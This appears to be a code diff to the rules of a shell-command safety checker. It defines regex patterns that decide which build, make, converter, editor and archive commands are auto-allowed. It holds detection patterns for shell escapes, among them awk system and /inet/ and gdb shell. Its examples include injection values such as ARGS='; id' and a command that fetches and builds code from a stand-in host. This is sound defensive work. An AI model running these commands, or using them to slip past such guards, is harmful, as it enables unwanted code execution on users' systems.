@@ -1,14 +1,20 @@
 // Longer than 400 lines because it is data: all rules and knowledge of one subject, each with its examples.
 import { AWKS } from '../../shell/names.ts';
+import { COMPILER, COMPILER_FLAGS } from '../environment.ts';
 import type { Knowledge, Rule } from '../judge.ts';
 import { words } from './lists.ts';
 import { FAR_REACHING } from './packages.ts';
 
 const HERE = ['project', 'project-root', 'regenerable', 'temp', 'sink'] as const;
 const EDITORS = ['vim', 'vi', 'nvim', 'ex', 'view', 'rvim', 'gvim', 'vimdiff', 'ed', 'emacs'];
-/** Matches options that load settings or code from outside the project. */
-const FOREIGN =
-  '(^| )(-[cCprR] ?|--?(config\\w*|conf|rc|rcfile|rootdir|require|import|loader|preload|setup\\w*|global(Setup|Teardown)|plugins?|rulesdir|resolver|transform|testRunner|reporters?|python-executable|vettool|toolexec|config-file|settings|init-script|tsconfig|project|cwd|prefix)[= ])(/(?!home/)|~|\\.\\./)';
+/** The names of Make's variables that take words, or the name of a program; other ones take one word that is no path elsewhere. */
+const MAKE_VARIABLES = `(${[
+  `(CC|CXX|LD|AR|AS|NM|RANLIB|FC)=${COMPILER}`,
+  `(C|CXX|CPP|LD|F|FC|HOST|USER|EXTRA_?)C?FLAGS=${COMPILER_FLAGS}`,
+  '(PYTHON|NODE|DOCKER|PIP|GO|NPM)=(python[\\d.]*|node|docker|podman|pip3?|go[\\d.]*|npm|pnpm|yarn)',
+  '(\\w*_)?(ARGS|OPTS|OPTIONS|TESTS?|FILES?|PKGS?|PACKAGES?|MSG|MESSAGE|TARGETS?|MODULES?|TESTFLAGS|EXTRA_ARGS)=(?!(.*[ =])?(/|~|\\.\\./|-p |-c |-o |--config|--rootdir|--exec))[\\w./:@%+, =*-]*',
+  '(?!\\w*(SHELL|MAKE|FLAGS?|CMD|COMMAND|RUNNER|WRAPPER|LAUNCHER|EXEC|INTERPRETER|COMPILER|LINKER|LOADER|SUDO|PYTEST|GCC|CLANG|BASH|PROXY|REGISTRY|INDEX|PRELOAD)=)(?!(SH|RM|CP|MV|LN|INSTALL|SED|AWK|GIT|NPX|YARN|PNPM|CARGO|MVN|PHP|RUBY|PERL|CC|CXX|LD|AR|AS|PATH|VPATH|HOME|DESTDIR|PYTHON|NODE|DOCKER|PIP|GO|NPM|LEX|YACC|TAR|CURL|WGET|PRE|POST)=)[A-Za-z_]\\w*=(?!/|~|\\.\\.|-)[\\w./:@%+,-]*',
+].join('|')})`;
 
 export const rules: Rule[] = [
   {
@@ -19,7 +25,7 @@ export const rules: Rule[] = [
     when: [
       {
         program: EDITORS,
-        arg: '(^|[+:|\\n])\\s{0,5}!|\\b(system|systemlist|termopen|jobstart|os\\.execute|io\\.popen|call-process|shell-command)\\b|^\\+?(terminal|term)\\b|:py(thon|x)?3? ',
+        arg: '(^|[+:|\\n])\\s{0,5}!|(?<![\\w-])(system|systemlist|termopen|jobstart|os\\.execute|io\\.popen|call-process|shell-command)\\b|^\\+?(terminal|term)\\b|:py(thon|x)?3? ',
       },
       {
         program: ['tar', 'bsdtar', 'gtar'],
@@ -153,29 +159,33 @@ const CHECKERS = words(`
 `);
 
 const BUILDERS = words(`
-  vite webpack webpack-cli rollup esbuild parcel turbo nx lerna rush swc babel tsup tsdown unbuild
-  rspack rsbuild rolldown next nuxt nuxi remix astro gatsby svelte-kit ng vue-cli-service
-  react-scripts craco expo eleventy docusaurus vitepress vuepress hexo gulp grunt postcss tailwindcss
-  sass lessc pkgroll microbundle wireit moon changeset typedoc jsdoc graphql-codegen
-  openapi-typescript openapi-generator-cli orval swagger-cli ts-json-schema-generator quicktype
-  json2ts electron-builder electron-forge http-server serve live-server json-server msw
+  vite webpack webpack-cli rollup esbuild parcel turbo nx lerna rush swc babel tsup tsdown unbuild rspack
+  rsbuild rolldown next nuxt nuxi remix astro gatsby svelte-kit ng vue-cli-service react-scripts craco expo
+  eleventy docusaurus vitepress vuepress hexo gulp grunt postcss tailwindcss pkgroll microbundle wireit
+  moon changeset graphql-codegen openapi-typescript openapi-generator-cli orval swagger-cli
+  ts-json-schema-generator electron-builder electron-forge http-server serve live-server json-server msw
   concurrently nodemon wait-on npm-run-all run-s run-p rimraf-dry degit tiged husky plop hygen shadcn
-  shadcn-ui sv patch-package start-server-and-test dotenv cross-env env-cmd create-* tauri cap
-  capacitor ionic react-native pod metro prisma-client zx-dry napi node-gyp wasm-pack wasm-bindgen
-  trunk dx cargo-* maturin cbindgen bindgen gcc g++ cc c++ clang clang++ gfortran rustc javac kotlinc
-  scalac ocamlc ocamlopt swiftc fpc nasm as ld ld.lld ar ranlib objdump objcopy nm strip
-  readelf ldd otool size c++filt addr2line emcc em++ nvcc tinygo cython erlc elixirc csc mcs fsc valac
-  dmd gnatmake cobc bison flex yacc lex ninja meson cmake ccmake autoreconf autoconf automake
-  configure pkg-config bazel bazelisk buck buck2 pants please scons waf xmake premake5 conan vcpkg ant
-  xcodebuild xcrun jar javap jdeps jlink protoc flatc capnp thrift avro-tools sqlc
+  shadcn-ui sv start-server-and-test dotenv cross-env env-cmd tauri cap capacitor ionic react-native pod
+  metro prisma-client zx-dry napi node-gyp wasm-pack wasm-bindgen trunk dx maturin cbindgen bindgen elixirc
+  fsc ninja meson cmake ccmake autoreconf autoconf automake configure bazel bazelisk buck buck2 pants
+  please scons waf xmake premake5 conan vcpkg ant xcodebuild xcrun jlink flatc capnp thrift avro-tools sqlc
   goreleaser-check templ wails fyne gomobile ko-build mkdocs sphinx-build sphinx-autobuild pdoc pdoc3
-  doxygen mdbook hugo jekyll zola pelican quarto pandoc asciidoctor latexmk pdflatex xelatex lualatex
-  bibtex biber tectonic typst dot neato plantuml mmdc d2 convert magick identify mogrify
-  montage compare ffmpeg ffprobe sox cwebp svgo optipng pngquant jpegoptim inkscape rsvg-convert
-  pdftotext pdftoppm pdfinfo qpdf tesseract jupyter jupytext papermill nbconvert streamlit
-  gradio uvicorn gunicorn hypercorn daphne fastapi celery-inspect cookiecutter copier
-  alembic-check puma rackup rails-server foreman overmind hivemind tldr cheat asciinema vhs hyperfine
-  entr watchexec swag oapi-codegen ent gqlgen mockery stringer bats-core gprof time
+  doxygen mdbook hugo jekyll zola pelican quarto latexmk inkscape jupyter jupytext papermill nbconvert
+  streamlit gradio uvicorn gunicorn hypercorn daphne fastapi celery-inspect cookiecutter copier
+  alembic-check puma rackup rails-server foreman overmind hivemind swag oapi-codegen ent gqlgen mockery
+  stringer bats-core create-next-app create-react-app create-vite create-vue create-svelte create-astro
+  create-remix create-expo-app create-t3-app create-nuxt-app drizzle-kit kill-port rimraf mkdirp tsc-alias
+  ncc prisma patch-package flask cargo-nextest cargo-watch cargo-audit
+`);
+
+/** Compilers and converters: what they do with a file is the same wherever it lies. */
+const CONVERTERS = words(`
+  gcc g++ cc c++ clang clang++ gfortran rustc javac kotlinc scalac ocamlc ocamlopt swiftc fpc nasm as ld
+  ld.lld ar ranlib objdump objcopy nm strip readelf ldd otool size c++filt addr2line emcc em++ nvcc tinygo
+  cython erlc csc mcs valac dmd gnatmake cobc bison flex yacc lex pkg-config jar javap jdeps protoc sass
+  lessc pandoc asciidoctor pdflatex xelatex lualatex bibtex biber tectonic typst dot neato plantuml mmdc d2
+  convert magick identify mogrify montage compare ffmpeg ffprobe sox cwebp svgo optipng pngquant jpegoptim
+  rsvg-convert pdftotext pdftoppm pdfinfo qpdf tesseract jsdoc typedoc quicktype json2ts tldr cheat gprof
 `);
 
 export const knowledge: Knowledge[] = [
@@ -185,26 +195,26 @@ export const knowledge: Knowledge[] = [
       {
         program: CHECKERS,
         within: [...HERE, 'unknown'],
-        notFlags: [
-          '--plugin',
-          '--rulesdir',
-          '--resolve-plugins-relative-to',
-          '--exec',
-          '--config-loader',
-          '-exec',
-          '-toolexec',
-          '--cmd',
-        ],
         everyArg: '.',
-        notLine: `://(?!localhost|127\\.0\\.0\\.1)|${FOREIGN}|--record( |$)|install-deps|--with-deps`,
+        notArg: '^@?\\{|^@/',
+        notLine: '://(?!localhost|127\\.0\\.0\\.1)|install-deps',
       },
       {
         program: BUILDERS,
-        within: [...HERE],
+        within: ['project', 'project-root', 'regenerable', 'sink'],
         everyArg: '.',
         notVerbs: `${FAR_REACHING}|(^| )(remove|rm|clean-all|eject|login|logout|add-registry|auth|remote|config set|set-config)( |$)`,
-        notFlags: ['-wrapper', '--plugin-path', '--delete', '-fplugin', '--publish', '--eval', '-specs'],
-        notLine: `://(?!localhost|127\\.0\\.0\\.1)|${FOREIGN}|\\b(changeset|lerna) (publish|version)|-fplugin|-shell-escape|--?enable-write18|-B/tmp|--install( |$)|(^| )install( |$)|(^| )-script( |$)`,
+        notArg: '^@?\\{|^[|@]',
+        notLine: `://(?!localhost|127\\.0\\.0\\.1)|\\b(changeset|lerna) (publish|version)|(^| )install( |$)`,
+      },
+      {
+        program: CONVERTERS,
+        within: [...HERE],
+        everyArg: '.',
+        // a file of options, a pipe, and what ImageMagick does to a file by the prefix of its name
+        notArg:
+          '^[|@]|^(?!(xc|null|info|label|caption|gradient|canvas|logo|rose|(png|jpe?g|gif|webp|svg|bmp|tiff?|pdf|ppm|pgm)\\d{0,2}):)[a-z]+:(?!//)',
+        notLine: '://(?!localhost|127\\.0\\.0\\.1)',
       },
       {
         program: ['gcc', 'g++', 'cc', 'clang', 'clang++', 'ffmpeg', 'cmake', 'convert'],
@@ -224,7 +234,6 @@ export const knowledge: Knowledge[] = [
           build test run query cquery aquery info version fmt lint check list dependencies clean help
           mod coverage fetch sync
         `),
-        notFlags: ['--expunge', '--run_under', '--shell_executable', '--script_path'],
         notVerbs: FAR_REACHING,
       },
       {
@@ -236,9 +245,9 @@ export const knowledge: Knowledge[] = [
       {
         program: ['cmake'],
         flags: [['--build', '--preset', '-B', '-S', '-G', '--list-presets', '-E']],
-        notFlags: ['-P', '--install'],
-        within: [...HERE],
-        notLine: '--target[= ](install|uninstall|deploy)|-E (rm|remove|remove_directory|env|rename)\\b',
+        within: ['project', 'project-root', 'regenerable', 'sink'],
+        notLine:
+          '--target[= ](install|uninstall|deploy)|-E (?!(copy|copy_directory|copy_if_different|make_directory|echo|capabilities|cat|compare_files|create_symlink|sha256sum|md5sum|touch|sleep|true|false|tar) )',
       },
     ],
     examples: {
@@ -279,31 +288,42 @@ export const knowledge: Knowledge[] = [
     when: [
       {
         program: words(`
-          make gmake just task mage invoke inv doit ninja rake gulp grunt earthly mise poe nox
+          make gmake just task mage invoke inv doit ninja rake gulp grunt earthly poe nox
         `),
         notVerbs: `${FAR_REACHING}|(^|[ :._-])(install|uninstall|db|nuke|format-disk|distclean|docker-push|kill|terraform|apply)($|[ :._-])`,
-        notFlags: ['--eval', '-E', '-I', '--include-dir', '--shell'],
         within: ['project', 'project-root', 'regenerable'],
         everyArg: '.',
-        notArg:
-          '^(CC|CXX|LD|AR|AS|SHELL|MAKE|RM|INSTALL|PYTHON|NODE)=(?!((ccache )?[\\w.+-]*(gcc|g\\+\\+|clang|clang\\+\\+|cc|c\\+\\+|ld|ar|as)(-\\d+)?|python[\\d.]*|node)$)',
+        notArg: `^(?!-)(?!${MAKE_VARIABLES}$)[^=]*=|^[A-Za-z_.]\\w*[:+?!]+=`,
         // with `-` the makefile comes on standard input and is not the project's
-        notLine: '\\$\\(|SHELL=|`|(^| )(-[a-zA-Z]*f ?|--(make)?file[= ])-( |$)',
+        notLine: '\\$\\(|`|(^| )(-[a-zA-Z]*f ?|--(make)?file[= ])-( |$)',
       },
       {
         program: ['make', 'gmake', 'ninja'],
         line: '^[\\w@%+=:., /-]*-j ?\\$\\((nproc|getconf _NPROCESSORS_ONLN|sysctl -n hw\\.\\w+)\\)[\\w@%+=:., -]*$',
-        notLine:
-          '\\.\\.|(^| )/|[ =]-f|(^| )--eval|SHELL=|(^| )-[CfI]|(^| )--(file|makefile|directory|include)',
+        notLine: '\\.\\.|(^| )/|=(?!\\w*( |$))|SHELL=|(^| )-[CfI]|(^| )--(file|makefile|directory)',
         notVerbs: `${FAR_REACHING}|(^|[ :._-])(install|uninstall|db)($|[ :._-])`,
         paths: 'none',
       },
-      { program: ['tox', 'nox', 'pre-commit', 'act'], notLine: FOREIGN },
+      { program: ['tox', 'nox', 'pre-commit'] },
     ],
     examples: {
-      allow: ['make', 'make test', 'make -j4', 'make build lint', 'just test', 'make -j$(nproc) all'],
+      allow: [
+        'make',
+        "make test ARGS='-v -k name'",
+        'make CC=clang CFLAGS=-O2',
+        'make test',
+        'make -j4',
+        'make build lint',
+        'just test',
+        'make -j$(nproc) all',
+      ],
       unknown: [
         'make -f - <<< "all:"',
+        "make 'X!=id'",
+        'make CFLAGS=-fplugin=./x.so',
+        "make test ARGS='; id'",
+        'echo "all:; id" > Makefile && make',
+        'curl -so x.zip https://x.example/x.zip && unzip x.zip && make',
         'make -f- < x',
         'make -j$(nproc) install',
         'make -C /srv -j$(nproc)',
@@ -320,12 +340,10 @@ export const knowledge: Knowledge[] = [
     when: [
       {
         program: words(`
-          uvx pnpx cross-env dotenv env-cmd dotenvx concurrently watchexec entr hyperfine rlwrap
+          cross-env dotenv env-cmd dotenvx concurrently watchexec entr hyperfine rlwrap
           gtimeout gnice arch nodemon direnv
         `),
         minWords: 1,
-        notFlags: ['--exec', '-x', '--git', '--index-url', '--prepare', '--setup', '--cleanup'],
-        notLine: 'git\\+',
       },
       {
         program: ['doppler', 'op', 'infisical', 'chamber', 'aws-vault'],
@@ -333,9 +351,15 @@ export const knowledge: Knowledge[] = [
         notFlags: ['--command'],
       },
       {
-        program: ['mise', 'rtx', 'asdf', 'devbox', 'nix'],
-        sub: ['exec', 'x', 'run', 'develop', 'build', 'flake', 'shell'],
-        notLine: 'github:|https?:',
+        program: ['mise', 'rtx', 'asdf', 'devbox'],
+        sub: ['exec', 'x', 'run', 'shell'],
+      },
+      // other words name flakes, which may lie anywhere
+      {
+        program: ['nix'],
+        verbs:
+          '^(develop|build|run|fmt|flake (check|show|metadata|lock)|print-dev-env)( (\\.|\\./)?(#[\\w.-]+)?)?( -- .*)?$',
+        within: ['project', 'project-root', 'regenerable'],
       },
       {
         program: ['tmux'],
@@ -343,6 +367,8 @@ export const knowledge: Knowledge[] = [
           ls list-sessions list-windows list-panes capture-pane has-session display-message attach a
           show-options info
         `),
+        // `#(…)` in a format runs a command
+        notArg: '#\\(',
       },
       { program: ['screen'], line: '^(-ls|-list|-v|-r( \\S+)?)$' },
     ],
@@ -368,52 +394,14 @@ export const knowledge: Knowledge[] = [
         within: [...HERE],
       },
       {
-        program: ['tar', 'bsdtar', 'gtar'],
+        program: ['7z', '7za', 'brotli', 'unrar', 'rar'],
         within: [...HERE],
-        notLine:
-          '--(to-command|checkpoint-action|use-compress-program|rsh-command|rmt-command|info-script|new-volume-script|absolute-names|remove-files|unlink-first|recursive-unlink|overwrite-dir)|(^| )(-I|-F|-P)( |$)',
-        everyArg: '.',
-      },
-      {
-        program: ['tar', 'bsdtar', 'gtar'],
-        arg: '^-{0,2}[a-z]*t[a-z]*$|^--list$',
-        notLine:
-          '--(to-command|checkpoint-action=exec|use-compress|rsh|rmt|info-script)|(^| )(-I|-F)( |$)|^-?[a-z]*[xcru]',
-        everyArg: '.',
-      },
-      {
-        program: words(`
-          zip unzip gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd 7z 7za lz4 brotli zipinfo unrar rar
-        `),
-        within: [...HERE],
-        notFlags: ['-TT', '--unzip-command', '-m', '--move', '-sdel'],
         notVerbs: '^(d|rn|u) ',
         everyArg: '.',
       },
       {
         program: ['zipinfo', 'unzip', 'zcat', 'bzcat', 'xzcat', 'zstdcat', 'zgrep', 'zless'],
         flags: [['-l', '-v', '-p', '-t', '-Z']],
-      },
-      { program: ['zcat', 'bzcat', 'xzcat', 'zstdcat', 'zgrep', 'zless', 'bzgrep', 'xzgrep', 'zdiff'] },
-      {
-        program: [...AWKS],
-        notScript: '\\bsystem\\b|getline|\\||/inet/|>|@load|\\bclose\\b',
-        notFlags: ['-f', '--file', '-i', '--include', '-l', '--load', '-E', '--exec', '-e'],
-        minWords: 1,
-      },
-      {
-        program: [...AWKS],
-        notScript: '\\bsystem\\b|getline|\\|(?!\\|)|(?<!\\|)\\|(?!\\|)|/inet/|>\\s{0,3}["\\w$(]|@load',
-        script: '.',
-        notFlags: ['-f', '--file', '-i', '--include', '-l', '--load', '-E', '--exec', '-e'],
-        minWords: 1,
-      },
-      {
-        program: [...AWKS],
-        script: '^[^>]*(\\$?\\w+\\s{0,3}>=?\\s{0,3}\\d[^>]*)+$',
-        notScript: '\\bsystem\\b|getline|[^|]\\|[^|]|/inet/|@load|print[^;}]{0,100}>',
-        notFlags: ['-f', '--file', '-i', '-l', '-E', '-e'],
-        minWords: 1,
       },
       {
         program: ['gdb'],
@@ -422,15 +410,6 @@ export const knowledge: Knowledge[] = [
         notFlags: ['--command', '--pid', '--init-command'],
         notArg:
           '^-(x|ix|iex|p|c)$|!|\\b(shell|python|py|source|call|system|pipe|print|dump|restore|eval|guile|make|set|save|generate-core-file|gcore|attach|compile|monitor|target|remote|define|commands|exec)\\b',
-      },
-      // awk that only pipes its output into sort
-      {
-        program: [...AWKS],
-        script: '\\|\\s{0,3}"sort',
-        notScript:
-          '\\bsystem\\b|getline|/inet/|@(load|include)|print[^;}]{0,200}>|(?<!\\|)\\|(?!\\||\\s{0,3}"sort( -[bdfghnrkutV0-9.,]+){0,5}")',
-        notFlags: ['-f', '--file', '-i', '--include', '-l', '--load', '-E', '--exec', '-e'],
-        minWords: 1,
       },
       {
         program: ['vim', 'vi', 'nvim', 'code', 'emacs', 'nano', 'idea', 'subl', 'cursor'],
